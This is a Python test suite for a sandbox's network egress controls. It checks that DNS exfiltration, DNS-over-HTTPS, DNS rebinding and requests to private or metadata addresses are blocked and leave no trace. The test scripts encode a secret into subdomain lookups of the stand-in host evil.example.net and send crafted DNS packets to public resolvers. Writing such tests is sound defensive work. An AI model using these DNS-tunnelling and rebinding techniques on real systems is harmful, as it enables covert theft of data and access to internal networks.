# SPDX-License-Identifier: GPL-3.0-or-later
"""Names as a way out and as a way in: telling the world by asking for a name, DNS in other clothes,
and names that turn out to be this machine's or its neighbours'."""

import socket

from caisson_testing.egress import ALLOW, ASK, DENY, EgressCase, rule
from caisson_testing.internet import places

WORD = "c2VjcmV0LXRoYXQtbGVha3M"


class Exfiltration(EgressCase):
    policy = DENY + rule(id="plain", host="plain.example.org") \
        + rule(id="get", host="*.wild.example.org", methods=["GET"], path="/ok")

    LOOK_UP = (f"import socket\n"
               f"for name in ('{WORD}.evil.example.net', '{WORD}.plain.example.org'):\n"
               f"    for kind in (socket.AF_INET, socket.AF_INET6):\n"
               f"        socket.getaddrinfo(name, 80, kind)\n")

    def test_looking_up_tells_nobody(self):
        self.inside(self.LOOK_UP)
        self.box.shell(f"getent hosts {WORD}.evil.example.net; getent ahosts {WORD}.example.org; "
                       f"true")
        self.assertNothingLeft()

    def test_more_names_than_there_is_room_for_are_written_down(self):
        script = ("import socket, struct\n"
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53))\n"
                  "s.settimeout(20)\n"
                  "codes = set()\n"
                  "for n in range(66000):\n"
                  "    name = b'%08x' % n\n"
                  "    s.send(struct.pack('!HHHHHH', n & 65535, 256, 1, 0, 0, 0) + b'\\x08' + name"
                  " + b'\\x04evil\\x03net\\0' + struct.pack('!HH', 1, 1))\n"
                  "    codes.add(s.recv(500)[3] & 15)\n"
                  "print(sorted(codes))\n")
        box = self.newBox("manynames", DENY)
        self.assertEqual(self.inside(script, box=box), "[0, 2]")
        rows = self.untilLogged(box=box)
        self.assertEqual((rows[0]["scheme"], rows[0]["verdict"]), ("dns", "deny"))
        self.assertLess(len(rows), 100)
        self.assertIn("SERVFAIL", rows[0]["why"])
        self.home.must("rm", box.name)

    def test_asking_servers_of_one_s_own_choice_tells_nobody(self):
        script = ("import socket, struct\n"
                  f"q = struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + "
                  f"b'\\x17{WORD}\\x04evil\\x03net\\0'"
                  " + struct.pack('!HH', 16, 1)\n"
                  f"for server in ('{places.NAME_SERVER}', '8.8.8.8', '2001:db8::53', "
                  f"'192.0.2.1'):\n"
                  "    f = socket.AF_INET6 if ':' in server else socket.AF_INET\n"
                  "    s = socket.socket(f, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, "
                  "(server, 53))\n"
                  "    try: s.recv(500)\n"
                  "    except OSError: pass\n"
                  "    for port in (853, 5353, 5355, 54):\n"
                  "        try: s.sendto(q, (server, port))\n"
                  "        except OSError: pass\n"
                  "    t = socket.socket(f); t.settimeout(5)\n"
                  "    try: t.connect((server, 53)); t.sendall(struct.pack('!H', len(q)) + q); "
                  "t.recv(500)\n"
                  "    except OSError: pass\n"
                  "    t = socket.socket(f); t.settimeout(5)\n"
                  "    try: t.connect((server, 853)); t.sendall(q); t.recv(500)\n"
                  "    except OSError: pass\n")
        self.inside(script)
        self.assertNothingLeft()

    def test_messages_that_are_odd_tell_nobody_and_harm_nothing(self):
        script = ("import os, random, socket, struct\n"
                  "r = random.Random(5)\n"
                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', "
                  "53))\n"
                  "for n in range(3000):\n"
                  "    d = bytearray(r.randbytes(r.randrange(0, 600)))\n"
                  "    if n % 3 == 0: d[:12] = struct.pack('!HHHHHH', n, 256, r.randrange(3), 0, "
                  "0, r.randrange(3))\n"
                  "    if n % 7 == 0: d[12:] = b'\\xc0\\x0c' + d[12:]\n"
                  "    try: s.send(bytes(d))\n"
                  "    except OSError: pass\n"
                  "for _ in range(50):\n"
                  "    t = socket.create_connection(('8.8.8.8', 53), 5); "
                  "t.sendall(r.randbytes(300)); t.close()\n"
                  "print(socket.gethostbyname('plain.example.org') != '')\n")
        self.assertEqual(self.inside(script), "True")
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)
        self.assertEqual(self.internet.names(), ["plain.example.org"])

    def test_a_refused_request_tells_nobody(self):
        for url in (f"http://{WORD}.evil.example.net/", f"https://{WORD}.evil.example.net/",
                    f"http://{WORD}.plain.example.org/", f"http://{WORD}.evil.example.net:8080/"):
            self.curl("-k", url)
        self.assertNothingLeft()

    def test_not_even_where_another_request_to_that_name_is_allowed(self):
        """The name is asked for when a request is let go, not when TLS is opened for it."""
        for words in (("-X", "POST", "https://x.wild.example.org/ok"),
                      ("https://x.wild.example.org/no",),
                      ("http://x.wild.example.org/no",)):
            self.assertRefused(self.curl(*words))
        self.assertNothingLeft()
        self.assertEqual(self.curl("https://x.wild.example.org/ok").status, 200)
        self.assertEqual(self.internet.names(), ["x.wild.example.org"])

    def test_not_while_a_person_is_asked(self):
        self.setPolicy(ASK)
        started = self.startCurl(f"https://{WORD}.evil.example.net/")
        prompt = self.untilPrompt()
        self.assertNothingLeft()
        self.answer(prompt, "deny")
        self.finish(started)
        self.assertNothingLeft()

    def test_dns_over_https(self):
        message = "AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
        for words in ((f"https://198.51.100.66/dns-query?dns={message}",), ("-H",
                      "content-type: application/dns-message", "-d", "x",
                                                                            "https://evil.example.net/dns-query"),
                      ("--doh-url", "https://evil.example.net/dns-query",
                       "http://plain.example.org/"),
                      ("--doh-insecure", "--doh-url", "https://198.51.100.66/dns-query",
                       "http://plain.example.org/")):
            self.curl("-k", *words)
        self.assertEqual(self.internet.connections(origin="evil"), [])
        self.assertEqual(set(self.internet.names()) - {"plain.example.org"}, set())
        # Names from elsewhere give nobody an address that is not asked of the table.
        self.assertEqual(self.internet.strays(), [])


class Rebinding(EgressCase):
    """A rule for a name is none for what the name is made to point at."""

    policy = DENY + "".join(rule(id=name.split(".")[0], host=name) for name in places.HOSTS
                            if name.startswith("to-")) \
        + rule(id="turning", host="turning.example.net") + rule(id="several",
                                                                host="several.example.net")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # Whoever gets through to this machine itself is seen here: the tests run on it.
        cls.listeners = []
        for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
            listener = socket.socket(family)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if family == socket.AF_INET6:
                listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            listener.bind((address, 8099))
            listener.listen()
            listener.setblocking(False)
            cls.listeners.append(listener)
            cls.addClassCleanup(listener.close)

    def assertNobodyCame(self):
        for listener in self.listeners:
            with self.assertRaises(BlockingIOError):
                listener.accept()
        self.assertEqual(self.internet.strays(), [])
        self.assertEqual(self.internet.connections(), [])

    def test_names_of_nobody_s_outside(self):
        names = [name for name in places.HOSTS if name.startswith("to-")]
        self.setPolicy(DENY + "".join(rule(host=name, ports=[80, 443, 8099, 22]) for name in names))
        for name in names:
            for port in (80, 8099):
                with self.subTest(name=name, port=port):
                    got = self.curl(f"http://{name}:{port}/private")
                    self.assertIn(got.status, (403, 502), got)
                    self.assertRegex(got.json()["why"],
                                     "(?i)private|this machine|own|loopback|local")
            self.curl("-k", f"https://{name}/private")
            self.box.exec("python3", "-c", "import socket, sys; s = socket.create_connection("
                          "(sys.argv[1], 22), 5); s.recv(10)", name)
        self.assertNobodyCame()

    def test_names_that_turn(self):
        """What is dialled is what was checked, not what the name says the next time."""
        self.internet.setName("turning.example.net", [places.HOSTS["plain.example.org"][0]],
                              ["127.0.0.1"], ["10.77.0.5"])
        statuses = [self.curl("http://turning.example.net/hello").status for _ in range(4)]
        self.assertEqual(statuses[0], 200)
        # Later ones are refused, or go where the first went: the keeper may remember it.
        self.assertEqual(set(statuses) - {200, 403, 502, 504}, set())
        for listener in self.listeners:
            with self.assertRaises(BlockingIOError):
                listener.accept()
        self.assertEqual(self.internet.strays(), [])

    def test_one_private_among_several(self):
        self.internet.setName("several.example.net", ["203.0.113.10", "127.0.0.1", "10.77.0.5"])
        for _ in range(3):
            got = self.curl("http://several.example.net/hello")
            self.assertIn(got.status, (200, 403, 502, 504))
        self.assertEqual(self.internet.strays(), [])

    def test_default_allow_is_no_leave_for_private_ones(self):
        self.setPolicy(ALLOW)
        for host in ("to-loopback.example.net", "to-lan.example.net", "to-house.example.net",
                     "127.0.0.1:8099",
                     "10.77.0.5", "169.254.169.254", f"{places.HOUSE4}:8099",
                     f"[{places.HOUSE6}]:8099",
                     "[fd00:77::5]", "[::ffff:10.77.0.5]", "100.64.0.1", "172.16.0.1",
                     "192.168.0.1",
                     "[fe80::1]", "0.0.0.0:8099", "198.18.0.77"):
            with self.subTest(host=host):
                got = self.curl("-g", f"http://{host}/private")
                # 127.0.0.1 and 0.0.0.0 are the sandbox's own: nobody listens there.
                self.assertNotEqual(got.status, 200)
        self.assertNobodyCame()

    def test_private_is_said_by_a_rule(self):
        self.setPolicy(DENY + rule(id="lan", host="to-lan.example.net", private=True)
                       + rule(id="house", host="to-house.example.net", ports=[8099], private=True)
                       + rule(id="number", cidr="10.88.0.0/16", private=True))
        got = self.curl("-4", "http://to-lan.example.net/yes")
        self.assertEqual((got.status, got.body), (200, b"reached\n"))
        self.assertEqual(self.curl("http://10.88.1.2/yes").status, 200)
        self.assertEqual(self.curl("http://10.77.0.5/no").status, 403)


class Resolver(EgressCase):
    policy = DENY + rule(id="any", host="**.example.org") + rule(id="two", host="**.example.net")

    def test_either_family_alone(self):
        for name in ("only4.example.org", "only6.example.org"):
            with self.subTest(name=name):
                self.assertEqual(self.curl(f"http://{name}/hello").body, b"hello from echo\n")

    def test_a_name_server_that_is_silent(self):
        self.internet.silenceName("silent.example.org")
        got = self.curl("http://silent.example.org/")
        self.assertIn(got.status, (502, 504), got)
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)

    def test_an_address_that_does_not_answer_is_not_the_only_one(self):
        self.internet.setName("half.example.org", [places.DEAD, "203.0.113.10"])
        for _ in range(3):
            self.assertEqual(self.curl("http://half.example.org/hello").status, 200)


class DeniedNetworks(EgressCase):
    """A rule that denies a network holds whatever name leads there."""
    V4, V6 = (rule(id=f"no-{kind}", action="deny", cidr=network,
                   ports=[80, 443, places.STREAM_PORT])
              for kind, network in (("v4", "203.0.113.10/32"), ("v6", "2001:db8::10/128")))
    policy = V4 + V6 + rule(id="any", host="**", ports=[80, 443, places.STREAM_PORT])

    def test_by_any_name(self):
        self.internet.setName("alias.example.net", list(places.HOSTS["plain.example.org"]))
        for host in ("plain.example.org", "alias.example.net"):
            with self.subTest(host=host):
                got = self.curl(f"http://{host}/hello")
                self.assertEqual(got.status, 403, got)
                self.assertIn(got.json()["rule"], ("no-v4", "no-v6"))
                self.assertRegex(got.json()["why"], f"{host} leads to [0-9a-f.:]+, and rule no-v")
                self.assertEqual(self.raw("hello\n", host, places.STREAM_PORT), b"")
                row, = self.untilLogged(host=host, port=places.STREAM_PORT)
                self.assertEqual(row["verdict"], "deny")
                self.assertIn(row["rule"], ("no-v4", "no-v6"))
        self.assertEqual(self.internet.connections(), [])
        self.assertEqual(self.internet.strays(), [])
        self.assertEqual(self.curl("http://echo.example.org/hello").status, 200)

    def test_the_other_address_of_a_name(self):
        self.setPolicy(DENY + self.V6 + rule(id="by-v4", host="plain.example.org"))
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)
        self.assertEqual(self.untilLogged(rule="by-v4")[0]["address"], "203.0.113.10")

    def test_a_rule_above_says_otherwise(self):
        self.setPolicy(rule(id="plain", host="plain.example.org") + self.policy)
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)

    def test_what_is_open_is_cut_and_what_is_kept_not_used(self):
        allowed = rule(id="any", host="**", ports=[80, 443, places.STREAM_PORT])
        self.setPolicy(DENY + allowed)
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)
        script = ("import socket, sys\n"
                  "s = socket.create_connection(('plain.example.org', %d))\n"
                  "s.sendall(b'here\\n'); s.recv(100); print('open', flush=True)\n"
                  "try: print('end', s.recv(100))\n"
                  "except OSError as e: print('end', type(e).__name__)\n" % places.STREAM_PORT)
        with self.box.openExec("python3", "-c", script) as running:
            self.untilSaid(running, b"open")
            self.internet.clear()
            self.setPolicy(DENY + self.V4 + self.V6 + allowed)
            self.untilSaid(running, b"end")
        self.assertEqual(self.curl("http://plain.example.org/hello").status, 403)
        self.assertEqual(self.internet.requests(), [])
